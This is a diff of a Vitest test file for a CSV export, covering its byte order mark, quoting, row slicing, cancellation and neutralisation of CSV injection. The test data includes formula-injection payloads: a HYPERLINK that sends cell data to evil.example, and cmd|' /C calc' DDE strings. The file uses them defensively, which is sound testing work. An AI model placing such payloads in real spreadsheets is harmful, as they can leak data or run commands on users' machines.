@@ -1,48 +1,107 @@
-import Papa from 'papaparse'
+/**
+ * The CSV file byte for byte, against expectations written out by hand: nothing here is computed
+ * with the export's own rules, so a rule dropped from the export fails a line below.
+ */
 import { describe, expect, it } from 'vitest'
-import { buildCsv, FORMULA_START } from '@/logPage/export/csv'
+import { buildCsv } from '@/logPage/export/csv'
 
-async function text(blob: Blob) {
+/** The file as text, its byte order mark kept. */
+async function fileText(blob: Blob) {
   return new TextDecoder('utf-8', { ignoreBOM: true }).decode(await blob.arrayBuffer())
 }
 
-describe('buildCsv', () => {
-  it('writes UTF-8 with a BOM, quoted cells and every row, in slices', async () => {
-    const progress: number[] = []
-    const blob = await buildCsv({
-      header: ['Date', 'Message'],
-      rowCount: 12,
-      row: (i) => [`2026-11-${10 + i}`, i === 3 ? 'line one\nline "two", with comma' : `Błąd ${i}`],
-      sliceSize: 5,
-      onProgress: (done) => progress.push(done),
-    })
-    const csv = await text(blob)
-    expect(csv.startsWith('\uFEFF')).toBe(true)
-    const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' }).data
-    expect(parsed).toHaveLength(13)
-    expect(parsed[0]).toEqual(['Date', 'Message'])
-    expect(parsed[4]).toEqual(['2026-11-13', 'line one\nline "two", with comma'])
-    expect(parsed[12]).toEqual(['2026-11-21', 'Błąd 11'])
-    expect(progress).toEqual([5, 10, 12])
+async function csvOf(header: string[], rows: string[][], sliceSize?: number) {
+  return fileText(await buildCsv({ header, rowCount: rows.length, row: (i) => rows[i]!, sliceSize }))
+}
+
+describe('the CSV export', () => {
+  it('starts with the UTF-8 byte order mark, so Excel reads the accents', async () => {
+    const blob = await buildCsv({ header: ['Wiadomość'], rowCount: 1, row: () => ['Błąd'] })
+    const bytes = new Uint8Array(await blob.arrayBuffer())
+    expect(Array.from(bytes.slice(0, 3))).toEqual([0xef, 0xbb, 0xbf])
+    expect(blob.type).toBe('text/csv;charset=utf-8')
+    expect(await fileText(blob)).toBe('\uFEFF"Wiadomość"\r\n"Błąd"')
   })
 
-  it('neutralises cells a spreadsheet would run as formulas, multi-line ones included', async () => {
-    const hostile = [
-      '=HYPERLINK("http://evil","x")',
-      '+cmd|calc',
-      '-2+3',
-      '@SUM(1)',
-      '\t=1',
-      '\r=1',
-      '=1+1\nsecond line',
+  it('quotes every cell, doubles quotes, and keeps commas and line breaks inside the cell', async () => {
+    const csv = await csvOf(
+      ['Date', 'Message', 'Count'],
+      [
+        ['2026-11-10 09:15:00', 'line one\nline "two", with comma', '3'],
+        ['2026-11-10 09:16:00', 'Windows\r\nline; and "quotes"', ''],
+      ],
+    )
+    expect(csv).toBe(
+      '\uFEFF"Date","Message","Count"\r\n' +
+        '"2026-11-10 09:15:00","line one\nline ""two"", with comma","3"\r\n' +
+        '"2026-11-10 09:16:00","Windows\r\nline; and ""quotes""",""',
+    )
+  })
+
+  // OWASP "CSV Injection": a cell must not start with =, +, -, @, tab or carriage return.
+  it.each([
+    ['=', '=HYPERLINK("http://evil.example/?d="&A1,"x")', `"'=HYPERLINK(""http://evil.example/?d=""&A1,""x"")"`],
+    ['+', "+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+    ['@', "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+    ['tab', '\t=1+1', `"'\t=1+1"`],
+    ['carriage return', '\r=1+1', `"'\r=1+1"`],
+    ['= (a cell of several lines)', '=1+1\nsecond line', `"'=1+1\nsecond line"`],
+  ])('neutralises a cell starting with %s by a leading apostrophe', async (_, cell, written) => {
+    expect(await csvOf(['Message'], [[cell]])).toBe(`\uFEFF"Message"\r\n${written}`)
+  })
+
+  it('checks every cell of a row, not only the first', async () => {
+    expect(await csvOf(['Date', 'Message', 'Detailed'], [['2026-11-10', '@SUM(1)', '-1']])).toBe(
+      `\uFEFF"Date","Message","Detailed"\r\n"2026-11-10","'@SUM(1)","'-1"`,
+    )
+  })
+
+  it('leaves cells that only hold those characters later on as they are', async () => {
+    const safe = [
       'safe = 1',
+      'mail@example.com',
+      '2026-11-10',
+      'Price 10 - 2',
+      'Reason:\n=1+1 is text here',
+      "it's",
+      '',
     ]
-    const blob = await buildCsv({ header: ['v'], rowCount: hostile.length, row: (i) => [hostile[i]!] })
-    const parsed = Papa.parse<string[]>((await text(blob)).slice(1), { newline: '\r\n' })
-      .data.slice(1)
-      .map((r) => r[0])
-    expect(parsed).toEqual(hostile.map((value) => (FORMULA_START.test(value) ? `'${value}` : value)))
-    expect(parsed.at(-1)).toBe('safe = 1')
-    expect(parsed[6]).toBe("'=1+1\nsecond line")
+    expect(
+      await csvOf(
+        ['Message'],
+        safe.map((cell) => [cell]),
+      ),
+    ).toBe(
+      '\uFEFF"Message"\r\n' +
+        '"safe = 1"\r\n' +
+        '"mail@example.com"\r\n' +
+        '"2026-11-10"\r\n' +
+        '"Price 10 - 2"\r\n' +
+        '"Reason:\n=1+1 is text here"\r\n' +
+        `"it's"\r\n` +
+        '""',
+    )
+  })
+
+  it('writes every row once and in order across slices, reporting progress after each', async () => {
+    const progress: number[] = []
+    const blob = await buildCsv({
+      header: ['Id'],
+      rowCount: 5,
+      row: (i) => [`r${i + 1}`],
+      sliceSize: 2,
+      onProgress: (done, total) => progress.push(done, total),
+    })
+    expect(await fileText(blob)).toBe('\uFEFF"Id"\r\n"r1"\r\n"r2"\r\n"r3"\r\n"r4"\r\n"r5"')
+    expect(progress).toEqual([2, 5, 4, 5, 5, 5])
+  })
+
+  it('stops when cancelled', async () => {
+    const controller = new AbortController()
+    controller.abort()
+    await expect(
+      buildCsv({ header: ['Id'], rowCount: 1, row: () => ['1'], signal: controller.signal }),
+    ).rejects.toMatchObject({ name: 'AbortError' })
   })
 })
